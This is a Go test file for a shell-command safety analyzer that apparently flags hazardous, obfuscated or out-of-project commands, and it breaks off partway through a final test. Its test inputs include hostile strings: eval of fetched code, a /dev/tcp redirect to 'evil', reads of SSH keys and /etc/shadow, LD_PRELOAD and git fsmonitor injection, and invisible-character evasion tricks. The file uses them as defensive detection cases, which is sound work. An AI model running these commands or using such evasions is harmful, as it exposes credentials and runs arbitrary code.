package shell

import (
	"path"
	"slices"
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"
)

var testOpts = Options{Cwd: "/work/p", Home: "/home/u"}

func texts(an *Analysis) []string {
	var out []string
	for _, c := range an.Commands {
		out = append(out, c.Text)
	}
	return out
}

// TestNesting checks that every kind of nesting yields its commands, in the
// order bash runs them (a substitution before the command it is part of).
func TestNesting(t *testing.T) {
	cases := []struct {
		name, src string
		want      []string
	}{
		{"pipeline", "git log | rm -rf x", []string{"git log", "rm -rf x"}},
		{"and or", "a && b || c", []string{"a", "b", "c"}},
		{"semicolon newline background", "a; b\nc & d", []string{"a", "b", "c", "d"}},
		{"subshell", "(cd /tmp && rm x)", []string{"cd /tmp", "rm x"}},
		{"block", "{ rm x; }", []string{"rm x"}},
		{"command substitution", "echo $(rm x)", []string{"rm x", "echo " + Dyn}},
		{"backticks", "echo `id`", []string{"id", "echo " + Dyn}},
		{"process substitution in", "diff <(a) <(b)", []string{"a", "b", "diff " + Dyn + " " + Dyn}},
		{"process substitution out", "tee >(sh)", []string{"sh", "tee " + Dyn}},
		{"arithmetic", "echo $(( 1 + 2 )) $(rm x)", []string{"rm x", "echo " + Dyn + " " + Dyn}},
		{"parameter expansion default", "echo ${x:-$(rm x)}", []string{"rm x", "echo " + Dyn}},
		{"assignment value", "x=$(rm x) npm -v", []string{"rm x", "npm -v"}},
		{"assignment only", "x=$(rm x)", []string{"rm x"}},
		{"redirect target", "echo hi > $(rm x)", []string{"rm x", "echo hi"}},
		{"unquoted heredoc", "cat <<EOF\n$(rm x)\nEOF", []string{"rm x", "cat"}},
		{"quoted heredoc is data", "cat <<'EOF'\n$(rm x)\nEOF", []string{"cat"}},
		{"test clause", "[[ -n $(rm x) ]]", []string{"rm x"}},
		{"for loop", "for f in *.log; do rm \"$f\"; done", []string{"rm " + Dyn}},
		{"while loop", "while true; do rm x; done", []string{"true", "rm x"}},
		{"if", "if true; then rm x; else y; fi", []string{"true", "rm x", "y"}},
		{"case", "case $x in a) rm x;; esac", []string{"rm x"}},
		{"time keyword", "time rm x", []string{"rm x"}},
		{"negation", "! rm x", []string{"rm x"}},
		{"declare", "export a=$(rm x)", []string{"rm x", "export a=" + Dyn}},
		{"variable known from the line", "d=build; rm -rf $d", []string{"rm -rf build"}},
		{"loop over a pattern", "for f in *.go; do wc -l \"$f\"; done", []string{"wc -l " + Dyn}},
		{"line continuation", "ls \\\n&& rm x", []string{"ls", "rm x"}},
		{"comment is not a command", "ls # ; rm x", []string{"ls"}},
		{"hash inside a word", "echo a#b ; rm x", []string{"echo 'a#b'", "rm x"}},
		{"quoted operators are data", `git commit -m "a ; b && c"`, []string{"git commit -m 'a ; b && c'"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			an := Analyze(c.src, testOpts)
			if got := texts(an); !slices.Equal(got, c.want) {
				t.Errorf("Analyze(%q) texts = %q, want %q", c.src, got, c.want)
			}
			if an.Unsafe != "" {
				t.Errorf("Analyze(%q) unexpectedly unsafe: %s", c.src, an.Unsafe)
			}
		})
	}
}

func TestLiteralResolution(t *testing.T) {
	cases := []struct{ src, want string }{
		{`\rm -rf x`, "rm|-rf|x"},
		{`r''m x`, "rm|x"},
		{`"r"m x`, "rm|x"},
		{"r\\\nm x", "rm|x"},
		{`{rm,-rf,/}`, "rm|-rf|/"},
		{`echo a{b,c}d`, "echo|abd|acd"},
		{`echo \{a,b\}`, "echo|{a,b}"},
		{`echo "{a,b}"`, "echo|{a,b}"},
		{`echo $'\x72m' $'a\nb'`, "echo|rm|a\nb"},
		{`echo $'\r' $'\0'`, "echo|" + Dyn + "|" + Dyn},
		{`echo "a\"b\$c\\d\q"`, `echo|a"b$c\d\q`},
		{`echo ~/x ~ $HOME/y ${HOME}`, "echo|/home/u/x|/home/u|/home/u/y|/home/u"},
		{`echo ~root/x`, "echo|" + Dyn + "/x"},
		{`dd if=~/.ssh/k of=x`, "dd|if=/home/u/.ssh/k|of=x"},
		{`echo a=~:~/b x=\~`, "echo|a=/home/u:/home/u/b|x=~"},
		{`echo --opt=~/x`, "echo|--opt=~/x"},
		{`echo *.go a?b [ab]c \*`, "echo|" + Dyn + ".go|a" + Dyn + "b|" + Dyn + "c|*"},
		{`echo '*' "?"`, "echo|*|?"},
		{`echo $a$b "x$(y)z"`, "echo|" + Dyn + "|x" + Dyn + "z"},
		{`[ -f x ]`, "[|-f|x|]"},
		{`echo ''`, "echo|"},
	}
	for _, c := range cases {
		an := Analyze(c.src, testOpts)
		if len(an.Commands) == 0 {
			t.Errorf("Analyze(%q): no command", c.src)
			continue
		}
		if got := strings.Join(an.Commands[len(an.Commands)-1].Argv, "|"); got != c.want {
			t.Errorf("Analyze(%q) argv = %q, want %q", c.src, got, c.want)
		}
	}
}

func TestDynamicNames(t *testing.T) {
	cases := []struct {
		src     string
		dynamic bool
	}{
		{"$CMD --version", true},
		{"${RM:-rm} -rf x", true},
		{`"$(printf rm)" -rf x`, true},
		{"rm${IFS}-rf", true},
		{"/bin/r? x", true},
		{"/b??/rm x", true},
		{"*(x) y", true},
		{"'' x", true},
		{"~root/bin/x", true},
		{"rm x", false},
		{"/usr/bin/git status", false},
		{"~/bin/tool", false},
		{"bash -c \"$S\"", true},
		{"eval \"$(curl x)\"", true},
		{"sudo $CMD", true},
		{"env -S \"$X\"", true},
		{"bash -c 'ls'", false},
	}
	for _, c := range cases {
		an := Analyze(c.src, testOpts)
		if len(an.Commands) == 0 {
			t.Errorf("Analyze(%q): no command", c.src)
			continue
		}
		last := an.Commands[len(an.Commands)-1]
		if got := last.Dynamic != ""; got != c.dynamic {
			t.Errorf("Analyze(%q): %q Dynamic = %q, want dynamic=%v", c.src, last.Text, last.Dynamic, c.dynamic)
		}
	}
}

func TestWrappers(t *testing.T) {
	cases := []struct {
		src     string
		inner   string // Text of the unwrapped command; "" for none
		wrapper string
	}{
		{"sudo -u root -E rm -rf x", "rm -rf x", "sudo"},
		{"sudo FOO=1 rm x", "rm x", "sudo"},
		{"sudo -l rm x", "", ""},
		{"doas -u root rm x", "rm x", "doas"},
		{"env -i -u HOME FOO=bar rm x", "rm x", "env"},
		{"env -S 'rm -rf x'", "rm -rf x", "env -S"},
		{"env --split-string='rm -rf x' y", "rm -rf x y", "env -S"},
		{"nice -n 5 rm x", "rm x", "nice"},
		{"nice -10 rm x", "rm x", "nice"},
		{"nohup rm x", "rm x", "nohup"},
		{"timeout -s KILL -k 5 30 rm x", "rm x", "timeout"},
		{"timeout --signal=KILL 30s rm x", "rm x", "timeout"},
		{"/usr/bin/time -p rm x", "rm x", "time"},
		{"command rm x", "rm x", "command"},
		{"command -v rm", "", ""},
		{"builtin eval 'rm x'", "rm x", "eval"},
		{"xargs -n 1 -I {} rm {}", "rm " + Dyn, "xargs"},
		{"xargs -n 1 rm", "rm " + Dyn, "xargs"},
		{"stdbuf -oL rm x", "rm x", "stdbuf"},
		{"watch -n1 rm x", "rm x", "watch"},
		{"watch -x rm x", "rm x", "watch"},
		{"ionice -c 3 rm x", "rm x", "ionice"},
		{"taskset 0x1 rm x", "rm x", "taskset"},
		{"setsid -f rm x", "rm x", "setsid"},
		{"flock /tmp/l rm x", "rm x", "flock"},
		{"flock /tmp/l -c 'rm x'", "rm x", "flock -c"},
		{"chroot /srv rm x", "rm x", "chroot"},
		{"unbuffer rm x", "rm x", "unbuffer"},
		{"busybox rm x", "rm x", "busybox"},
		{"find . -exec rm {} \\;", "rm " + Dyn, "find -exec"},
		{"find . -execdir rm {} +", "rm " + Dyn, "find -execdir"},
		{"find . -ok rm {} \\;", "rm " + Dyn, "find -ok"},
		{"bash -c 'rm x'", "rm x", "bash -c"},
		{"sh -ec 'rm x'", "rm x", "sh -c"},
		{"bash -o pipefail -c 'rm x' name arg", "rm x", "bash -c"},
		{"zsh -c 'rm x'", "rm x", "zsh -c"},
		{"eval rm x", "rm x", "eval"},
		{"su -c 'rm x' root", "rm x", "su -c"},
		{"bash script.sh", "", ""},
	}
	for _, c := range cases {
		an := Analyze(c.src, testOpts)
		if an.Unsafe != "" {
			t.Errorf("Analyze(%q) unsafe: %s", c.src, an.Unsafe)
		}
		if c.inner == "" {
			if len(an.Commands) != 1 {
				t.Errorf("Analyze(%q) = %q, want only the command itself", c.src, texts(an))
			}
			continue
		}
		w0 := strings.Fields(c.src)[0]
		if transparentWrapper(path.Base(w0)) {
			// Judged through the inner command(s); the first keeps the
			// wrapper's text as a deny-only spelling.
			in := an.Commands[len(an.Commands)-1]
			hasAlt := slices.ContainsFunc(an.Commands[0].AltTexts, func(s string) bool { return strings.HasPrefix(s, w0+" ") })
			if strings.HasPrefix(an.Commands[0].Text, w0+" ") || !hasAlt || in.Text != c.inner || in.Wrapper != c.wrapper {
				t.Errorf("Analyze(%q) = %q (alts %q), want %q reached through the transparent %s", c.src, texts(an), an.Commands[0].AltTexts, c.inner, w0)
			}
			continue
		}
		if len(an.Commands) < 2 {
			t.Errorf("Analyze(%q) = %q, want a wrapper and %q", c.src, texts(an), c.inner)
			continue
		}
		if w := an.Commands[0]; w.Always != "" && w.Always != exactPattern(w.Argv) || w.Wrapper != "" {
			t.Errorf("Analyze(%q) wrapper %q: Always=%q Wrapper=%q, want an exact pattern at most", c.src, w.Text, w.Always, w.Wrapper)
		}
		in := an.Commands[len(an.Commands)-1]
		if in.Text != c.inner || in.Wrapper != c.wrapper {
			t.Errorf("Analyze(%q) inner = %q (wrapper %q), want %q (wrapper %q)", c.src, in.Text, in.Wrapper, c.inner, c.wrapper)
		}
	}
}

func TestNestedWrappers(t *testing.T) {
	an := Analyze(`sudo timeout 5 bash -c "env -S 'rm -rf x'"`, testOpts)
	// timeout and env -S are transparent: judged through their inner commands.
	want := []string{`sudo timeout 5 bash -c 'env -S '\''rm -rf x'\'''`,
		`bash -c 'env -S '\''rm -rf x'\'''`, "rm -rf x"}
	if got := texts(an); !slices.Equal(got, want) {
		t.Errorf("texts = %q, want %q", got, want)
	}
	deep := strings.Repeat("eval ", 3*maxDepth) + "rm x"
	an = Analyze(deep, testOpts)
	dyn := false
	for _, c := range an.Commands {
		dyn = dyn || c.Dynamic != ""
	}
	if !dyn {
		t.Errorf("deeply nested eval not reported as dynamic: %q", texts(an))
	}
}

// TestHazards checks that each command that can run code, write files or
// change later commands beyond what its text suggests is reported as a
// hazard or as not understood, never as plain.
func TestHazards(t *testing.T) {
	cases := []struct{ want, src string }{
		{"find -delete", "find . -name '*.py' -delete"},
		{"pytest", "pytest -q -o addopts=--basetemp=/home/u"},
		{"pytest", "pytest -c /tmp/x.ini"},
		{"pytest", "pytest --junitxml=/tmp/r.xml"},
		{"cargo", "cargo test --target-dir /tmp/t"},
		{"cargo", "cargo build -Zunstable-options"},
		{"", "find . -fprint /tmp/x"}, // a write, judged by the Write rules
		{"kubeconfig", "kubectl get pods --kubeconfig kc.yaml"},
		{"sort -o", "sort -S 64K -T .git/hooks big.txt"},
		{"make runs other code", "make -n all"},
		{"-S may run a program", "git commit -S -m x"},
		{"--gpg-sign", "git merge --gpg-sign main"},
		{"kubeconfig", "kubectl get pods -s https://x"},
		{"curl writes", "curl --proto-default file x"},
		{"make runs other code", "make --just-print"},
		{"curl writes a file", "curl --alt-svc /tmp/x https://a.b"},
		{"curl writes a file", "curl -sO https://a.b/x"},
		{"curl writes a file", "curl file:///home/u/.ssh/id_rs%61"},
		{"curl writes a file", "curl FILE:///etc/passwd"},
		{"man runs", "man -l p.1"},
		{"less reads", "less -ologfile README.md"},
		{"less reads", "less +!sh README.md"},
		{"response file", "nm @list"},
		{"sort -o", "sort --temp=/tmp big.txt"},
		{"tar runs a program", "tar -tvf a.tar --index-file=/tmp/idx"},
		{"tar runs a program", "tar -tf host:a.tar"},
		{"tar runs a program", "tar -tf a.tar -T list.txt"},
		{"tar runs a program", "tar -tf a.tar --files-from=list.txt"},
		{"tar runs a program", "tar tf host:a.tar"},
		{"kubeconfig", "kubectl --kubeconfig=kc.yaml get pods"},
		{"docker loads another configuration", "docker --config ./d ps"},
		{"git -c", "git -c core.fsmonitor=id status"},
		{"--exec-path", "git --exec-path=/tmp status"},
		{"--output", "git log --output=/tmp/x"},
		{"--output", "git log --out=/tmp/x"},
		{"--ext-diff", "git diff --ext-diff"},
		{"--exec", "git rebase --exe='touch x' main"},
		{"git config write", "git config alias.x '!rm -rf ~'"},
		{"git alias", "git alias x status"},
		{"git runs a command", "git submodule foreach 'rm -rf .'"},
		{"--upload-pack", "git clone --upload-pack='touch x' repo"},
		{"-c", "git clone -c core.fsmonitor=x repo"},
		{"--git-dir", "git --git-dir=evil status"},
		{"sed -i", "sed -i s/a/b/ f"},
		{"in place", "sed --in-pl s/a/b/ f"},
		{"sed script", "sed -n '1e id' f"},
		{"sed script", "sed 's/a/b/w /tmp/x' f"},
		{"sed script", "sed 'y/[/]/x' f"},
		{"sed script", "sed --e='1e id' f"},
		{"awk program uses system", `awk 'BEGIN{system("id")}'`},
		{"awk program", `awk '/"/ { system("id") } # "'`},
		{"awk program may redirect", `awk '{print > "/tmp/x"}'`},
		{"awk program may redirect", `awk '{print "a;b" > "/tmp/x"}'`},
		{"sort -o", "sort -o out in"},
		{"sort --output", "sort --out=out in"},
		{"compress-program", "sort --compress-prog=sh in"},
		{"rg -z", "rg -z needle"},
		{"rg --pre", "rg --pre=sh needle"},
		{"tree -o", "tree -o /tmp/x"},
		{"tar runs a program", "tar --to-command=sh -xf a.tar"},
		{"tar runs a program", "tar --to-com=sh -xf a.tar"},
		{"rsync runs a program", "rsync -e 'sh -c id' a b"},
		{"curl writes a file", "curl -o ~/.bashrc https://x"},
		{"time -o", "/usr/bin/time -o out ls"},
		{"alias", "alias ls='rm -rf x'"},
		{"opaque exec wrapper", "strace -f rm x"},
		{"interpreter code flag", "python3 -c 'print(1)'"},
		{"unquoted pattern", "rg TODO *"},
		{"unquoted pattern", "sort *"},
		{"find", "find . -exec$IFS rm {} +"},
		{"rm", "x=-exec; find . $x rm {} +"},
		{"variable name", "printf -v 'a[$(id)]' x"},
		{"extended glob", "ls *(e:'rm x':)"},
		{"date -s", "date -s 2020-01-01"},
		{"file -C", "file -C -m x"},
		{"option", "ls --frobnicate"},
		{"ambiguous option", "sort --c=x in"},
		{"trap", "trap 'touch x' EXIT"},
		{"mapfile -C", "mapfile -C 'touch x' -c 1 a < f"},
		{"hash -p", "hash -p /bin/sh ls"},
		{"exec -a", "exec -a name rm x"},
		{"runs the script", "bash notes.txt"},
		{"runs the script", "sh -e notes.txt"},
		{"runs a script", "source notes.txt"},
		{"runs a script", ". ./env.sh"},
		{"startup files", "bash -lc 'ls'"},
		{"startup files", "bash -i -c ls"},
		{"option -k", "bash -k -c 'git status GIT_DIR=x'"},
		{"option +B", "bash +B -c 'echo {a,b}'"},
		{"option -O", "bash -O dotglob -c 'cat *'"},
		{"U+FFFD", "ls \ufffd"},
		{"touch", "env --s='touch x'"},
		{"sudo options", "sudo --c=/ ls"},
	}
	for _, c := range cases {
		an := Analyze(c.src, testOpts)
		var got []string
		found := c.want == ""
		for _, cmd := range an.Commands {
			why := cmd.Hazard + cmd.Dynamic
			if c.want == cmd.Argv[0] {
				found = true
			}
			got = append(got, why)
			if c.want != "" && strings.Contains(why, c.want) {
				found = true
			}
			if why != "" && cmd.Always != "" && cmd.Always != exactPattern(cmd.Argv) {
				t.Errorf("Analyze(%q): %q has Always %q", c.src, cmd.Text, cmd.Always)
			}
		}
		if c.want != "" && strings.Contains(an.Unsafe, c.want) {
			found = true
		}
		if !found {
			t.Errorf("Analyze(%q) hazards %q (unsafe %q), want one naming %q", c.src, got, an.Unsafe, c.want)
		}
	}
}

// TestHazardTable has one row per entry of the second-line hazards table,
// checked on the table itself (the first line usually answers first).
func TestHazardTable(t *testing.T) {
	cases := map[string]string{
		"find -delete":                  "find . -delete",
		"find writes a file":            "find . -fls x",
		"git config override":           "git -c a=b status",
		"git --exec-path":               "git --exec-path=/x status",
		"git --output":                  "git log --output=x",
		"git external diff or textconv": "git diff --ext-diff",
		"git config write":              "git config a b",
		"git alias":                     "git alias x y",
		"git runs a command":            "git bisect run make",
		"sort -o":                       "sort -o x",
		"rg runs a preprocessor":        "rg --pre x y",
		"tree -o":                       "tree -o x",
		"base64 -o":                     "base64 -o x y",
		"tar runs a program":            "tar -I sh -xf a",
		"rsync runs a program":          "rsync -e sh a b",
		"curl writes a file or reads a local one": "curl -o x y",
		"time -o":                                                    "/usr/bin/time -o x ls",
		"alias":                                                      "alias a=b",
		"opaque exec wrapper":                                        "strace ls",
		"interpreter code flag":                                      "python -c x",
		"unquoted glob for an exec-capable tool":                     "rg x *",
		"fd runs a command":                                          "fd -x rm",
		"zip runs a command":                                         "zip -TT x a.zip",
		"make runs other code":                                       "make --ev=x",
		"npm config runs code":                                       "npm test --node-o=x",
		"ssh option runs a program":                                  "ssh -oProxyCommand=x h",
		"go env -w writes go's settings":                             "go env -w CC=x",
		"kubectl loads another kubeconfig":                           "kubectl get pods --kubeconfig=kc.yaml",
		"reads more arguments from a response file":                  "strings @a1",
		"man runs programs or reads files it is not given":           "man -C man.conf -l README.md",
		"less reads key bindings or writes a log":                    "less --lesskey-src=keys README.md",
		"ps prints other processes' environments":                    "ps eww -p 1",
		"split writes files named from a prefix and a suffix":        "csplit -f .gi -b 't/config%.0d' f /END/",
		"docker loads another configuration":                         "docker --config d ps",
		"pytest writes, removes or reads settings elsewhere":         "pytest --base=/home/u tests",
		"cargo --config, -Z or another manifest or target directory": "cargo test --config build.rustc-wrapper=x",
	}
	for _, h := range hazards {
		src, ok := cases[h.name]
		if !ok {
			t.Errorf("hazard %q has no test row", h.name)
			continue
		}
		var fs []field
		p := syntax.NewParser()
		f, err := p.Parse(strings.NewReader(src), "")
		if err != nil {
			t.Fatal(err)
		}
		for _, w := range f.Stmts[0].Cmd.(*syntax.CallExpr).Args {
			a := &analyzer{an: &Analysis{}, st: &state{}}
			a.res = resolver{a: a}
			fs = append(fs, a.res.single(w, ctxArgv))
		}
		argv := make([]string, len(fs))
		for i := range fs {
			argv[i] = fs[i].s
		}
		if got := hazardOf(fs, argv); got != h.name {
			t.Errorf("hazardOf(%q) = %q, want %q", src, got, h.name)
		}
	}
}

// TestNoHazard pins read-only uses that must stay allowed.
func TestNoHazard(t *testing.T) {
	for _, src := range []string{
		"git log -p -1", "git diff --no-index -- a b", "git config user.name", "git config --get user.name",
		"git config --list", "git status", "sed -n '1,5p' f", "sed 's/a/b/g' f", "sed -n '/re/{p;q}' f",
		"sed -E 's#[/]#x#' f", "awk '{print $1}' f", "awk -F: '$3 > 100 {print $1}' f",
		"awk '{ if (a || b) print (x > y) }' f", "sort -u f", "rg -i needle", "find . -name '*.go'",
		"tar -tzf a.tgz", "tar -xzOf a.tgz x", "unzip -l a.zip", "rsync -av a b", "curl -s https://x", "python3 script.py", "node app.js",
		"perl script.pl -e", "CI=1 npm test", "GIT_AUTHOR_NAME=x git commit -m y", "cat *.txt",
		"python -m pytest -c conf", "grep -n TODO *.go", "git --no-pager log", "git -P diff",
		"find . -name '*.go' -exec grep -l TODO {} +", "git commit -m 'fix a[$(i)]'",
		`[[ -n "$(git status --porcelain)" ]] && echo dirty`, `for ((i=0;i<3;i++)); do echo "$(date) $i"; done`,
		`awk '{print > "/dev/stderr"}' f`, "sort --output-dir=x", "x=5; echo $((x + 1))",
		"cd sub && ls", "git diff --exit-code", "git diff --text", "head -20 f", "grep -5 x f",
	} {
		an := Analyze(src, testOpts)
		if an.Unsafe != "" && src != "sort --output-dir=x" {
			t.Errorf("Analyze(%q) unsafe: %s", src, an.Unsafe)
		}
		for _, c := range an.Commands {
			if c.Hazard != "" || c.Dynamic != "" && src != "sort --output-dir=x" {
				t.Errorf("Analyze(%q): %q has hazard %q, dynamic %q", src, c.Text, c.Hazard, c.Dynamic)
			}
		}
	}
}

// TestArchivesAndPatches: extracting an archive or applying a patch
// writes files named inside it, which the analysis does not read.
func TestArchivesAndPatches(t *testing.T) {
	for _, src := range []string{"tar -xzf a.tgz", "tar xf a.tar", "tar --extract -f a.tar", "bsdtar -xf a.tar",
		"unzip a.zip", "unzip -o a.zip", "cpio -i < a.cpio", "7z x a.7z", "patch -p1 < x.patch", "git apply x.patch", "git am m"} {
		an := Analyze(src, testOpts)
		if len(an.Commands) == 0 || !strings.HasPrefix(an.Commands[0].Dynamic, "not understood") {
			t.Errorf("Analyze(%q): %+v, want not understood", src, an.Commands)
		}
	}
}

// TestGitAddMarksOnlyItsReads: git add's reads are read as git would
// stage them; a read of another command on the line is not (git add -
// adds no read of its own).
func TestGitAddMarksOnlyItsReads(t *testing.T) {
	an := Analyze("grep -r x . ; git add /dev/null ; git add -", testOpts)
	for _, r := range an.Reads {
		if r.Addable {
			t.Errorf("read %+v marked addable", r)
		}
	}
	an = Analyze("git add src", testOpts)
	if len(an.Reads) != 1 || !an.Reads[0].Addable || !an.Reads[0].Recursive {
		t.Errorf("git add src: reads %+v", an.Reads)
	}
}

func TestDangerousEnv(t *testing.T) {
	for _, src := range []string{
		"LD_PRELOAD=/tmp/x.so ls", "DYLD_INSERT_LIBRARIES=x ls", "PATH=/tmp ls", "GIT_SSH_COMMAND=id git fetch",
		"GIT_EXTERNAL_DIFF=x git diff", "PAGER=id git log", "EDITOR=id git commit", "BASH_ENV=x bash s.sh",
		"NODE_OPTIONS='--require x' node a", "PYTHONSTARTUP=x python", "sudo LD_PRELOAD=x ls", "env PERL5OPT=-d perl a",
		"FOO_COMMAND=x make",
	} {
		an := Analyze(src, testOpts)
		c := an.Commands[len(an.Commands)-1]
		if !strings.Contains(c.Dynamic, "assignment to ") {
			t.Errorf("Analyze(%q): %q dynamic = %q, want an environment variable not understood", src, c.Text, c.Dynamic)
		}
	}
	if an := Analyze("PATH=/tmp/evil; ls", testOpts); an.Unsafe == "" {
		t.Errorf("PATH assignment before a later command is not unsafe")
	}
	for _, src := range []string{"FOO=1; ls", "X=$(ls)", "export FOO=1", "declare 'PATH=/tmp'", "printf -v HOME x", "read PATH",
		"BASH_CMDS[ls]=/bin/sh; ls", "BASH_ALIASES[ls]=x", "export 'GIT_CONFIG_COUNT=1'", "RIPGREP_CONFIG_PATH=x rg y"} {
		an := Analyze(src, testOpts)
		asks := an.Unsafe != ""
		for _, c := range an.Commands {
			asks = asks || c.Hazard != "" || c.Dynamic != ""
		}
		if !asks {
			t.Errorf("Analyze(%q): an unknown upper-case name was set without asking", src)
		}
	}
	if an := Analyze("foo=1; ls", testOpts); an.Unsafe != "" {
		t.Errorf("harmless assignment is unsafe: %s", an.Unsafe)
	}
}

func TestWrites(t *testing.T) {
	cases := []struct {
		src    string
		writes []Write
	}{
		{"ls > out.txt", []Write{{">", "/work/p/out.txt", false, ""}}},
		{"ls >> /tmp/a", []Write{{">>", "/tmp/a", false, ""}}},
		{"ls >| a", []Write{{">|", "/work/p/a", false, ""}}},
		{"ls &> a", []Write{{"&>", "/work/p/a", false, ""}}},
		{"ls &>> a", []Write{{"&>>", "/work/p/a", false, ""}}},
		{"ls <> a", []Write{{"<>", "/work/p/a", false, ""}}},
		{"ls >&file", []Write{{">&", "/work/p/file", false, ""}}},
		{"ls > ~/.bashrc", []Write{{">", "/home/u/.bashrc", false, ""}}},
		{"ls > $F", []Write{{">", Dyn, true, ""}}},
		{"ls > /dev/tcp/evil/80", nil},
		{"cd /tmp && ls > out", []Write{{">", "/tmp/out", false, ""}}},
		{"cd $D && ls > out", []Write{{">", "out", true, ""}}},
		{"cd /tmp; ls > out", []Write{{">", "out", true, ""}}},
		{"pushd /tmp && ls > out", []Write{{">", "/tmp/out", false, ""}}},
		{"(cd /tmp && ls) > out", []Write{{">", "/work/p/out", false, ""}}},
		{"touch a b", []Write{{"touch", "/work/p/a", false, ""}, {"touch", "/work/p/b", false, ""}}},
		// cp writes DEST, and DEST/SRC when DEST is a directory.
		{"cp a b", []Write{{"cp", "/work/p/b", false, ""}, {"cp", "/work/p/b/a", false, "/work/p/b"}}},
		{"cp -t d x/a", []Write{{"cp", "/work/p/d", false, ""}, {"cp", "/work/p/d/a", false, "/work/p/d"}}},
		{"cp -T a b", []Write{{"cp", "/work/p/b", false, ""}}},
		{"mv a b", []Write{{"mv", "/work/p/a", false, ""}, {"mv", "/work/p/b", false, ""}, {"mv", "/work/p/b/a", false, "/work/p/b"}}},
		{"ln -s /etc/x", []Write{{"ln", "/work/p", false, ""}, {"ln", "/work/p/x", false, "/work/p"}}},
		{"exec 3> /tmp/out", []Write{{">", "/tmp/out", false, ""}}},
		{"bash -c 'echo x > /etc/passwd'", []Write{{">", "/etc/passwd", false, ""}}},
		{"cat <<'EOF' > s.sh\nx\nEOF", []Write{{">", "/work/p/s.sh", false, ""}}},
		{"ls > /dev/null 2>/dev/stderr 1>/dev/stdout", nil},
		{"ls 2>&1 >&2 3>&-", nil},
		{"cat < in.txt", nil},
		{"cat <<< hi", nil},
		{"cat <<EOF\nhi\nEOF", nil},
	}
	for _, c := range cases {
		an := Analyze(c.src, testOpts)
		if !slices.Equal(an.Writes, c.writes) {
			t.Errorf("Analyze(%q).Writes = %+v, want %+v", c.src, an.Writes, c.writes)
		}
	}
}

func TestUnsafe(t *testing.T) {
	unsafe := []string{
		"git log &&& rm x", `echo "unterminated`, "ls &&", "&& ls", "ls | | wc", "ls ;; pwd", "cat <<EOF\nno end",
		"cat =(rm x)", "FOO[$(rm x)]=v ls", "git status\rrm x", "ls\x00", "ls\x1b[2K", "ls \u200b", "ls \u202e",
		"ls \u2066x", "ls \ufeff", "ls \u00ad", "ls \U000E0041", "ls \u00a0x", "ls \xff",
		"echo ok" + strings.Repeat(" ", 100) + "; curl x", "x='a[$(id)]'; echo $((x))", "(( 'a[$(id)]' ))",
		"bash -c $'ls\\u200b'",
	}
	for _, src := range unsafe {
		if an := Analyze(src, testOpts); an.Unsafe == "" {
			t.Errorf("Analyze(%q) not unsafe: %q", src, texts(an))
		}
	}
	// What parses is still analysed, so deny rules keep working.
	if an := Analyze("rm -rf x\u200b", testOpts); len(an.Commands) != 1 || an.Commands[0].Argv[0] != "rm" {
		t.Errorf("unsafe input was not analysed: %q", texts(an))
	}
	for _, src := range []string{"ls\n\tpwd", "echo 'héllo wörld ✓'", "git commit -m \"line1\nline2\""} {
		if an := Analyze(src, testOpts); an.Unsafe != "" {
			t.Errorf("Analyze(%q) unsafe: %s", src, an.Unsafe)
		}
	}
}

func TestOutsideProject(t *testing.T) {
	cases := []struct {
		src  string
		opts Options
		want []string
	}{
		{"cat /etc/passwd", testOpts, []string{"/etc/passwd"}},
		{"cat ~/.ssh/id_rsa", testOpts, []string{"/home/u/.ssh/id_rsa"}},
		{"cat ~/.ssh/id_rsa", Options{Cwd: "/work/p"}, []string{"~/.ssh/id_rsa"}},
		{"cat ../x", testOpts, []string{"../x"}},
		{"cat a/../../x", testOpts, []string{"a/../../x"}},
		{"cat a/../b", testOpts, nil},
		{"cat /work/p/src/x", testOpts, nil},
		{"cat src/x", testOpts, nil},
		{"git diff --output=/tmp/x", testOpts, []string{"/tmp/x"}},
		{"ls > /tmp/out", testOpts, []string{"/tmp/out"}},
		{"ls 2>/dev/null", testOpts, nil},
		{"curl https://example.com/../x", testOpts, nil},
		{"sed -n '/re/p' f", testOpts, nil},
		{"cat /etc/x", Options{}, nil},
		{"cat /home/u/x", Options{Home: "/home/u"}, []string{"/home/u/x"}},
		{"cat ../x", Options{}, []string{"../x"}},
		{"sudo cat /etc/shadow", testOpts, []string{"/etc/shadow"}},
	}
	for _, c := range cases {
		an := Analyze(c.src, c.opts)
		if !slices.Equal(an.OutsidePaths, c.want) || an.OutsideProject != (len(c.want) > 0) {
			t.Errorf("Analyze(%q, %+v): outside=%v %q, want %q", c.src, c.opts, an.OutsideProject, an.OutsidePaths, c.want)
		}
	}
}

func TestQuoteAndText(t *testing.T) {
	cases := []struct{ src, text string }{
		{`git commit -m "fix: a ; b"`, `git commit -m 'fix: a ; b'`},
		{`npm 'run build'`, `npm 'run build'`},
		{`'git status'`, `'git status'`},
		{`echo "it's"`, `echo 'it'\''s'`},
		{`echo ''`, `echo ''`},
		{`ls -la ./a_b/c-d.e@f%g+h=i:j,k`, `ls -la ./a_b/c-d.e@f%g+h=i:j,k`},
		{`echo $X"a b"`, "echo '" + Dyn + "a b'"},
		{`echo '*'`, `echo '*'`},
		{`cat < in.txt`, `cat`},
		{`FOO=1 rm x`, `rm x`},
	}
	for _, c := range cases {
		an := Analyze(c.src, testOpts)
		if len(an.Commands) == 0 || an.Commands[0].Text != c.text {
			t.Errorf("Analyze(%q) text = %q, want %q", c.src, texts(an), c.text)
		}
	}
	if q := Quote(""); q != "''" {
		t.Errorf("Quote(\"\") = %q", q)
	}
}

func TestAltTexts(t *testing.T) {
	cases := []struct {
		src  string
		want []string
	}{
		{"/bin/rm -rf x", []string{"rm -rf x"}},
		{"git -C /repo push origin main", []string{"git push origin main"}},
		{"git -c a=b --no-pager log", []string{"git log"}},
		{"rm -fr x", []string{"rm -rf x"}},
		{"rm --recursive --force x", []string{"rm -rf x"}},
		{"rm -R -f -v x", []string{"rm -rfv x"}},
		{"/usr/bin/git -C r push", []string{"git -C r push", "git push"}},
		{"/b??/rm x", []string{"rm x"}},
		{"rm -rf x", nil},
		{"git status", nil},
	}
	for _, c := range cases {
		an := Analyze(c.src, testOpts)
		if len(an.Commands) == 0 || !slices.Equal(an.Commands[0].AltTexts, c.want) {
			t.Errorf("Analyze(%q) alts = %q, want %q", c.src, an.Commands[0].AltTexts, c.want)
		}
	}
}

func TestAlwaysPattern(t *testing.T) {
	cases := []struct{ src, want string }{
		{"git push origin main", "git push *"},
		{"git log", "git log *"},
		{"git stash list", "git stash list *"},
		{"npm run build", "npm run build"},
